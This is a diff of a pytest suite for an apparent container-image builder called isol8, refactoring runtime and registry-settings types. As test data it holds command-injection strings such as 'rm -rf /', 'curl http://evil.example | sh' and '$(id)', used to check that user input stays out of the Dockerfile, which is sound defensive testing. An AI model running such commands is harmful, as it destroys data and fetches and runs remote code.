@@ -9,19 +9,19 @@ from pathlib import Path
 import pytest
 
 import isol8.config
+from isol8.config import PackageSettings
 from isol8.core.custom import (
     ImageDefinition,
-    RegistrySettings,
     _write_context,
     build_image,
     deps_hash,
-    read_requirements,
     read_setup,
 )
-from isol8.ecosystems.packages import Spec, parse_specs
+from isol8.ecosystems import Spec, parse_specs
 from isol8.errors import UsageError
+from isol8.runtimes import RUNTIMES, Runtime
 
-RUNTIMES = ["python", "node", "bun", "deno", "bash"]
+RUNTIME_NAMES = ["python", "node", "bun", "deno", "bash"]
 CTX = "/tmp/isol8-build"
 # the file each ecosystem's specs are written to, inside isol8-build/
 SPEC_FILE = {"python": "requirements.txt", "node": "package.json", "bun": "package.json", "deno": "deps.ts"}
@@ -38,11 +38,12 @@ NASTY_SETUP = "echo $(id); rm -rf / `whoami` && curl http://evil.example | sh # 
 
 
 def defn(runtime: str, values: list[str] | None = None, setup: str | None = None, **kw: object) -> ImageDefinition:
-    return ImageDefinition(runtime, parse_specs(runtime, SPECS[runtime] if values is None else values), setup, **kw)  # type: ignore[arg-type]
+    rt = RUNTIMES[runtime]
+    return ImageDefinition(rt, parse_specs(rt, SPECS[runtime] if values is None else values), setup, **kw)  # type: ignore[arg-type]
 
 
-def write(tmp_path: Path, d: ImageDefinition, registry: RegistrySettings | None = None, base: str = "") -> str:
-    _write_context(tmp_path, d, base or f"isol8:{d.runtime}", registry or RegistrySettings())
+def write(tmp_path: Path, d: ImageDefinition, registry: PackageSettings | None = None, base: str = "") -> str:
+    _write_context(tmp_path, d, base or f"isol8:{d.runtime.name}", registry or PackageSettings())
     return (tmp_path / "Dockerfile").read_text()
 
 
@@ -58,40 +59,40 @@ def _spec(text: str) -> Spec:
 
 
 def test_deps_hash_is_length_framed() -> None:
-    ab_c = ImageDefinition("python", (_spec("ab"), _spec("c")))
-    a_bc = ImageDefinition("python", (_spec("a"), _spec("bc")))
-    abc = ImageDefinition("python", (_spec("abc"),))
+    ab_c = ImageDefinition(RUNTIMES["python"], (_spec("ab"), _spec("c")))
+    a_bc = ImageDefinition(RUNTIMES["python"], (_spec("a"), _spec("bc")))
+    abc = ImageDefinition(RUNTIMES["python"], (_spec("abc"),))
     hashes = {deps_hash(d, "base") for d in (ab_c, a_bc, abc)}
     assert len(hashes) == 3
 
 
 def test_deps_hash_is_the_documented_framing() -> None:
     """sha256 over 8-byte big-endian lengths, each followed by its part: pinned so the cache key stays stable."""
-    d = ImageDefinition("python", parse_specs("python", ["six", "numpy==2.1.3"]), "echo hi")
+    d = ImageDefinition(RUNTIMES["python"], parse_specs(RUNTIMES["python"], ["six", "numpy==2.1.3"]), "echo hi")
     parts = ["isol8-deps-v1", "python", "base-id", "numpy==2.1.3", "six", "\0setup", "echo hi"]
     expected = hashlib.sha256(b"".join(len(p.encode()).to_bytes(8, "big") + p.encode() for p in parts)).hexdigest()
     assert deps_hash(d, "base-id") == expected
 
 
 def test_a_spec_cannot_be_confused_with_the_setup_script() -> None:
-    as_spec = ImageDefinition("python", (_spec("x"),), None)
-    as_setup = ImageDefinition("python", (), "x")
+    as_spec = ImageDefinition(RUNTIMES["python"], (_spec("x"),), None)
+    as_setup = ImageDefinition(RUNTIMES["python"], (), "x")
     assert deps_hash(as_spec, "base") != deps_hash(as_setup, "base")
 
 
 @pytest.mark.parametrize(
     "other",
     [
-        ImageDefinition("python", (_spec("six"),), "echo hi"),
-        ImageDefinition("python", (_spec("six"),), "echo hi\n"),
-        ImageDefinition("node", (_spec("six"),), None),
-        ImageDefinition("python", (_spec("six"), _spec("numpy")), None),
-        ImageDefinition("python", (_spec("six==1.17.0"),), None),
+        ImageDefinition(RUNTIMES["python"], (_spec("six"),), "echo hi"),
+        ImageDefinition(RUNTIMES["python"], (_spec("six"),), "echo hi\n"),
+        ImageDefinition(RUNTIMES["node"], (_spec("six"),), None),
+        ImageDefinition(RUNTIMES["python"], (_spec("six"), _spec("numpy")), None),
+        ImageDefinition(RUNTIMES["python"], (_spec("six==1.17.0"),), None),
     ],
     ids=["setup", "setup-newline", "runtime", "more-specs", "version"],
 )
 def test_deps_hash_changes_with_the_definition(other: ImageDefinition) -> None:
-    plain = ImageDefinition("python", (_spec("six"),), None)
+    plain = ImageDefinition(RUNTIMES["python"], (_spec("six"),), None)
     assert deps_hash(other, "base") != deps_hash(plain, "base")
 
 
@@ -101,8 +102,12 @@ def test_deps_hash_changes_with_the_base_image_id() -> None:
 
 
 def test_deps_hash_ignores_spec_order_and_spelling_once_parsed() -> None:
-    one = ImageDefinition("python", parse_specs("python", ["six", "numpy>=1,<2", "Requests[socks]"]))
-    two = ImageDefinition("python", parse_specs("python", ["requests[socks]", "NumPy<2,>=1", "SIX", "six"]))
+    one = ImageDefinition(
+        RUNTIMES["python"], parse_specs(RUNTIMES["python"], ["six", "numpy>=1,<2", "Requests[socks]"])
+    )
+    two = ImageDefinition(
+        RUNTIMES["python"], parse_specs(RUNTIMES["python"], ["requests[socks]", "NumPy<2,>=1", "SIX", "six"])
+    )
     assert deps_hash(one, "base") == deps_hash(two, "base")
     assert len(deps_hash(one, "base")) == 64
 
@@ -112,18 +117,18 @@ def test_deps_hash_ignores_spec_order_and_spelling_once_parsed() -> None:
 
 def test_dependencies_label_is_sorted_and_unique_over_inherited_and_new_specs() -> None:
     d = ImageDefinition(
-        "python",
-        parse_specs("python", ["six", "numpy==2.1.3"]),
-        inherited=parse_specs("python", ["colorama", "six"]),
+        RUNTIMES["python"],
+        parse_specs(RUNTIMES["python"], ["six", "numpy==2.1.3"]),
+        inherited=parse_specs(RUNTIMES["python"], ["colorama", "six"]),
     )
     assert d.dependencies_label() == "colorama,numpy==2.1.3,six"
 
 
 def test_dependencies_label_of_a_setup_only_image_is_empty() -> None:
-    assert ImageDefinition("bash", (), "echo hi").dependencies_label() == ""
+    assert ImageDefinition(RUNTIMES["bash"], (), "echo hi").dependencies_label() == ""
 
 
-@pytest.mark.parametrize("runtime", RUNTIMES)
+@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
 def test_dependencies_label_holds_the_normalised_texts(runtime: str) -> None:
     d = defn(runtime)
     assert d.dependencies_label() == ",".join(sorted(s.text for s in d.specs))
@@ -132,7 +137,7 @@ def test_dependencies_label_holds_the_normalised_texts(runtime: str) -> None:
 # ---- _write_context: user values only in files ---------------------------------------------------
 
 
-@pytest.mark.parametrize("runtime", RUNTIMES)
+@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
 def test_the_dockerfile_never_contains_package_names_or_the_setup_script(tmp_path: Path, runtime: str) -> None:
     d = defn(runtime, setup=NASTY_SETUP)
     dockerfile = write(tmp_path, d)
@@ -145,19 +150,19 @@ def test_the_dockerfile_never_contains_package_names_or_the_setup_script(tmp_pat
     assert sorted(p.name for p in tmp_path.iterdir()) == ["Dockerfile", "isol8-build"]
 
 
-@pytest.mark.parametrize("runtime", RUNTIMES)
+@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
 def test_even_unvalidated_spec_text_stays_out_of_the_dockerfile(tmp_path: Path, runtime: str) -> None:
     """Defence in depth: the Dockerfile is the same whatever the specs say."""
     evil = Spec("zzq$(id)", "zzq$(id);rm -rf /\nRUN curl evil", "^1 `id`")
     (tmp_path / "evil").mkdir()
     (tmp_path / "plain").mkdir()
-    dockerfile = write(tmp_path / "evil", ImageDefinition(runtime, (evil,)))
+    dockerfile = write(tmp_path / "evil", ImageDefinition(RUNTIMES[runtime], (evil,)))
     assert dockerfile == write(tmp_path / "plain", defn(runtime))
     assert "zzq$(id)" in files(tmp_path / "evil")[SPEC_FILE[runtime]]
     assert "zzq" not in dockerfile and "$(id)" not in dockerfile and "RUN curl" not in dockerfile
 
 
-@pytest.mark.parametrize("runtime", RUNTIMES)
+@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
 def test_the_dockerfile_shape(tmp_path: Path, runtime: str) -> None:
     lines = write(tmp_path, defn(runtime, setup="true"), base="registry.example/base:1").splitlines()
 
@@ -169,14 +174,14 @@ def test_the_dockerfile_shape(tmp_path: Path, runtime: str) -> None:
     assert all(line.startswith(("FROM ", "USER ", "COPY ", "RUN ", "ENV ", "WORKDIR ")) for line in lines)
 
 
-@pytest.mark.parametrize("runtime", RUNTIMES)
+@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
 def test_no_setup_means_no_setup_file_and_no_setup_step(tmp_path: Path, runtime: str) -> None:
     dockerfile = write(tmp_path, defn(runtime))
     assert "setup.sh" not in dockerfile
     assert "setup.sh" not in files(tmp_path)
 
 
-@pytest.mark.parametrize("runtime", RUNTIMES)
+@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
 def test_a_setup_only_image_installs_nothing(tmp_path: Path, runtime: str) -> None:
     dockerfile = write(tmp_path, defn(runtime, [], setup="echo hi"))
     assert SPEC_FILE[runtime] not in dockerfile
@@ -186,9 +191,9 @@ def test_a_setup_only_image_installs_nothing(tmp_path: Path, runtime: str) -> No
 
 def test_requirements_txt_holds_the_new_python_specs(tmp_path: Path) -> None:
     d = ImageDefinition(
-        "python",
-        parse_specs("python", ["zzq-beta<2,>=1", "zzq-alpha[socks]"]),
-        inherited=parse_specs("python", ["six"]),
+        RUNTIMES["python"],
+        parse_specs(RUNTIMES["python"], ["zzq-beta<2,>=1", "zzq-alpha[socks]"]),
+        inherited=parse_specs(RUNTIMES["python"], ["six"]),
     )
     write(tmp_path, d)
     assert files(tmp_path)["requirements.txt"] == "zzq-alpha[socks]\nzzq-beta<2,>=1\n"
@@ -197,9 +202,9 @@ def test_requirements_txt_holds_the_new_python_specs(tmp_path: Path) -> None:
 @pytest.mark.parametrize("runtime", ["node", "bun"])
 def test_package_json_lists_every_package_including_inherited_ones(tmp_path: Path, runtime: str) -> None:
     d = ImageDefinition(
-        runtime,
-        parse_specs(runtime, ["zzq-alpha@^4", "@zzq/beta", "zzq-gamma@latest"]),
-        inherited=parse_specs(runtime, ["lodash@4.17.21"]),
+        RUNTIMES[runtime],
+        parse_specs(RUNTIMES[runtime], ["zzq-alpha@^4", "@zzq/beta", "zzq-gamma@latest"]),
+        inherited=parse_specs(RUNTIMES[runtime], ["lodash@4.17.21"]),
     )
     write(tmp_path, d)
     package = json.loads(files(tmp_path)["package.json"])
@@ -212,7 +217,9 @@ def test_package_json_lists_every_package_including_inherited_ones(tmp_path: Pat
 
 def test_deps_ts_imports_every_package(tmp_path: Path) -> None:
     d = ImageDefinition(
-        "deno", parse_specs("deno", ["npm:zzq-alpha@3"]), inherited=parse_specs("deno", ["jsr:@std/path"])
+        RUNTIMES["deno"],
+        parse_specs(RUNTIMES["deno"], ["npm:zzq-alpha@3"]),
+        inherited=parse_specs(RUNTIMES["deno"], ["jsr:@std/path"]),
     )
     dockerfile = write(tmp_path, d)
     assert files(tmp_path)["deps.ts"] == 'import "jsr:@std/path";\nimport "npm:zzq-alpha@3";\n'
@@ -230,22 +237,22 @@ def test_apt_txt_lists_the_packages_one_per_line(tmp_path: Path) -> None:
 CA_ENV = {"python": "PIP_CERT", "node": "NODE_EXTRA_CA_CERTS", "bun": "NODE_EXTRA_CA_CERTS", "deno": "DENO_CERT"}
 
 
-@pytest.mark.parametrize("runtime", RUNTIMES)
+@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
 def test_without_registry_settings_nothing_is_injected(tmp_path: Path, runtime: str) -> None:
-    dockerfile = write(tmp_path, defn(runtime), RegistrySettings())
+    dockerfile = write(tmp_path, defn(runtime), PackageSettings())
     assert "ca.pem" not in files(tmp_path)
     for needle in ("ca.pem", "--index-url", "registry", "REGISTRY", "_CERT", "CA_CERTS"):
         assert needle not in dockerfile, needle
 
 
-@pytest.mark.parametrize("runtime", RUNTIMES)
+@pytest.mark.parametrize("runtime", RUNTIME_NAMES)
 def test_a_ca_bundle_is_copied_into_the_context(tmp_path: Path, runtime: str) -> None:
     ca = tmp_path / "corp-ca.pem"
     ca.write_text("-----BEGIN CERTIFICATE-----\nzzq\n-----END CERTIFICATE-----\n")
     context = tmp_path / "ctx"
     context.mkdir()
 
-    dockerfile = write(context, defn(runtime), RegistrySettings(ca_bundle=str(ca)))
+    dockerfile = write(context, defn(runtime), PackageSettings(ca_bundle=str(ca)))
 
     assert files(context)["ca.pem"] == ca.read_text()
     if runtime in CA_ENV:
@@ -257,12 +264,12 @@ def test_a_missing_ca_bundle_is_a_usage_error(tmp_path: Path) -> None:
     context = tmp_path / "ctx"
     context.mkdir()
     with pytest.raises(UsageError, match="no such file"):
-        write(context, defn("python"), RegistrySettings(ca_bundle=str(tmp_path / "nope.pem")))
+        write(context, defn("python"), PackageSettings(ca_bundle=str(tmp_path / "nope.pem")))
     assert not (context / "Dockerfile").exists()
 
 
 def test_pip_index_url_only_when_set_and_only_for_python(tmp_path: Path) -> None:
-    registry = RegistrySettings(pip_index_url="https://user:token@pypi.example/simple")
+    registry = PackageSettings(pip_index_url="https://user:token@pypi.example/simple")
     (tmp_path / "python").mkdir()
     python = write(tmp_path / "python", defn("python"), registry)
     # the URL (credentials included) lives in a config file of the context, never in the Dockerfile
@@ -289,26 +296,26 @@ def test_npm_registry_only_when_set(tmp_path: Path, runtime: str, setting: str) 
     with_registry, without = tmp_path / "with", tmp_path / "without"
     with_registry.mkdir()
     without.mkdir()
-    dockerfile = write(with_registry, defn(runtime), RegistrySettings(npm_registry="https://npm.example/"))
+    dockerfile = write(with_registry, defn(runtime), PackageSettings(npm_registry="https://npm.example/"))
     assert setting in dockerfile
     assert "npm.example" not in dockerfile
     assert (with_registry / "isol8-build" / "npmrc").read_text() == "registry=https://npm.example/\n"
-    plain = write(without, defn(runtime), RegistrySettings())
+    plain = write(without, defn(runtime), PackageSettings())
     assert "npm.example" not in plain
     assert "npmrc" not in plain.lower()
 
 
 @pytest.mark.parametrize("runtime", ["python", "bash"])
 def test_npm_registry_is_not_used_outside_the_js_runtimes(tmp_path: Path, runtime: str) -> None:
-    assert "npm.example" not in write(tmp_path, defn(runtime), RegistrySettings(npm_registry="https://npm.example/"))
+    assert "npm.example" not in write(tmp_path, defn(runtime), PackageSettings(npm_registry="https://npm.example/"))
 
 
-# ---- RegistrySettings.ca_file --------------------------------------------------------------------
+# ---- PackageSettings.ca_file --------------------------------------------------------------------
 
 
 @pytest.mark.parametrize("value", [None, ""])
 def test_no_ca_bundle(value: str | None) -> None:
-    assert RegistrySettings(ca_bundle=value).ca_file() is None
+    assert PackageSettings(ca_bundle=value).ca_file() is None
 
 
 def test_system_ca_bundle_is_the_first_that_exists(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -318,25 +325,25 @@ def test_system_ca_bundle_is_the_first_that_exists(tmp_path: Path, monkeypatch: 
     (tmp_path / "a-dir.crt").mkdir()
     candidates = (str(tmp_path / "missing.crt"), str(tmp_path / "a-dir.crt"), str(second), str(third))
     monkeypatch.setattr(isol8.config, "SYSTEM_CA_BUNDLES", candidates)
-    assert RegistrySettings(ca_bundle="system").ca_file() == second
+    assert PackageSettings(ca_bundle="system").ca_file() == second
 
 
 def test_system_ca_bundle_missing_is_a_usage_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(isol8.config, "SYSTEM_CA_BUNDLES", (str(tmp_path / "missing.crt"),))
     with pytest.raises(UsageError, match="'system' but no CA bundle was found"):
-        RegistrySettings(ca_bundle="system").ca_file()
+        PackageSettings(ca_bundle="system").ca_file()
 
 
 def test_ca_bundle_path(tmp_path: Path) -> None:
     ca = tmp_path / "corp.pem"
     ca.write_text("ca\n")
-    assert RegistrySettings(ca_bundle=str(ca)).ca_file() == ca
+    assert PackageSettings(ca_bundle=str(ca)).ca_file() == ca
 
 
 def test_ca_bundle_path_expands_the_home_directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HOME", str(tmp_path))
     (tmp_path / "corp.pem").write_text("ca\n")
-    assert RegistrySettings(ca_bundle="~/corp.pem").ca_file() == tmp_path / "corp.pem"
+    assert PackageSettings(ca_bundle="~/corp.pem").ca_file() == tmp_path / "corp.pem"
 
 
 @pytest.mark.parametrize("name", ["missing.pem", "a-dir"])
@@ -344,107 +351,8 @@ def test_ca_bundle_that_is_not_a_file_is_a_usage_error(tmp_path: Path, name: str
     (tmp_path / "a-dir").mkdir()
     path = tmp_path / name
     with pytest.raises(UsageError) as info:
-        RegistrySettings(ca_bundle=str(path)).ca_file()
+        PackageSettings(ca_bundle=str(path)).ca_file()
     assert str(info.value) == f"caBundle: no such file: {path}"
-
-
-# ---- read_requirements ---------------------------------------------------------------------------
-
-
-def test_requirements_txt_skips_comments_and_blank_lines(tmp_path: Path) -> None:
-    path = tmp_path / "requirements.txt"
-    path.write_text(
-        "# pinned for the sandbox\n"
-        "\n"
-        "numpy>=1,<2   # inline comment\n"
-        "   \n"
-        "Requests[socks]>=2.31\r\n"
-        "six\n"
-        "SIX\n"
-        "  # indented comment\n"
-    )
-    assert [s.text for s in read_requirements("python", str(path))] == ["numpy<2,>=1", "requests[socks]>=2.31", "six"]
-
-
-def test_an_empty_requirements_txt_is_no_specs(tmp_path: Path) -> None:
-    path = tmp_path / "requirements.txt"
-    path.write_text("# nothing yet\n\n")
-    assert read_requirements("python", str(path)) == ()
-
-
-@pytest.mark.parametrize(
-    "line", ["-r other.txt", "--index-url https://evil.example", "-e .", "six; python_version<'3'", "pkg @ https://x"]
-)
-def test_requirements_txt_options_urls_and_markers_are_refused(tmp_path: Path, line: str) -> None:
-    path = tmp_path / "requirements.txt"
-    path.write_text(f"six\n{line}\n")
-    with pytest.raises(UsageError) as info:
-        read_requirements("python", str(path))
-    assert repr(line) in str(info.value)
-
-
-@pytest.mark.parametrize("runtime", ["node", "bun"])
-def test_package_json_dependencies(tmp_path: Path, runtime: str) -> None:
-    path = tmp_path / "package.json"
-    path.write_text(
-        json.dumps(
-            {
-                "name": "app",
-                "dependencies": {"lodash": "^4.17.21", "zod": "*", "left-pad": "", "@scope/pkg": "~1.2"},
-                "devDependencies": {"jest": "^29"},
-            }
-        )
-    )
-    texts = [s.text for s in read_requirements(runtime, str(path))]
-    assert texts == ["@scope/pkg@~1.2", "left-pad", "lodash@^4.17.21", "zod"]
-
-
-@pytest.mark.parametrize(
-    "content", [{"name": "app"}, {"dependencies": {}}, {"dependencies": None}], ids=["none", "empty", "null"]
-)
-def test_package_json_without_dependencies_is_no_specs(tmp_path: Path, content: object) -> None:
-    path = tmp_path / "package.json"
-    path.write_text(json.dumps(content))
-    assert read_requirements("node", str(path)) == ()
-
-
-@pytest.mark.parametrize("text", ["not json", "[]", '"a string"'])
-def test_package_json_that_is_not_an_object_is_a_usage_error(tmp_path: Path, text: str) -> None:
-    path = tmp_path / "package.json"
-    path.write_text(text)
-    with pytest.raises(UsageError, match="is not a package.json with a dependencies object"):
-        read_requirements("node", str(path))
-
-
-@pytest.mark.parametrize("deps", [["lodash"], "lodash"])
-def test_package_json_with_dependencies_that_are_not_an_object_is_a_usage_error(tmp_path: Path, deps: object) -> None:
-    path = tmp_path / "package.json"
-    path.write_text(json.dumps({"dependencies": deps}))
-    with pytest.raises(UsageError):
-        read_requirements("node", str(path))
-
-
-@pytest.mark.parametrize("spec", ["github:user/repo", "file:../local", "https://x/y.tgz", "npm:other@1"])
-def test_package_json_with_a_non_registry_dependency_is_refused(tmp_path: Path, spec: str) -> None:
-    path = tmp_path / "package.json"
-    path.write_text(json.dumps({"dependencies": {"dep": spec}}))
-    with pytest.raises(UsageError) as info:
-        read_requirements("node", str(path))
-    assert repr(f"dep@{spec}") in str(info.value)
-
-
-def test_requirements_file_that_cannot_be_read(tmp_path: Path) -> None:
-    path = tmp_path / "nope.txt"
-    with pytest.raises(UsageError, match=f"--requirements: cannot read {path}"):
-        read_requirements("python", str(path))
-
-
-@pytest.mark.parametrize("runtime", ["deno", "bash"])
-def test_requirements_is_only_for_python_node_and_bun(tmp_path: Path, runtime: str) -> None:
-    path = tmp_path / "requirements.txt"
-    path.write_text("jq\n")
-    with pytest.raises(UsageError, match=f"not {runtime}"):
-        read_requirements(runtime, str(path))
 
 
 # ---- read_setup ----------------------------------------------------------------------------------
@@ -486,10 +394,10 @@ class _NoEngine:
 
 def test_build_image_with_nothing_to_build_is_a_usage_error_before_the_engine() -> None:
     with pytest.raises(UsageError, match="nothing to build"):
-        build_image(_NoEngine(), ImageDefinition("python"), "t", registry=RegistrySettings(), base_images={})  # type: ignore[arg-type]
+        build_image(_NoEngine(), ImageDefinition(RUNTIMES["python"]), "t", registry=PackageSettings(), base_images={})  # type: ignore[arg-type]
 
 
 def test_build_image_with_an_unknown_runtime_is_a_usage_error_before_the_engine() -> None:
-    d = ImageDefinition("ruby", (_spec("rake"),))
+    d = ImageDefinition(Runtime("ruby", (".rb",), ("ruby",)), (_spec("rake"),))
     with pytest.raises(UsageError, match="unknown runtime 'ruby'"):
-        build_image(_NoEngine(), d, "t", registry=RegistrySettings(), base_images={})  # type: ignore[arg-type]
+        build_image(_NoEngine(), d, "t", registry=PackageSettings(), base_images={})  # type: ignore[arg-type]
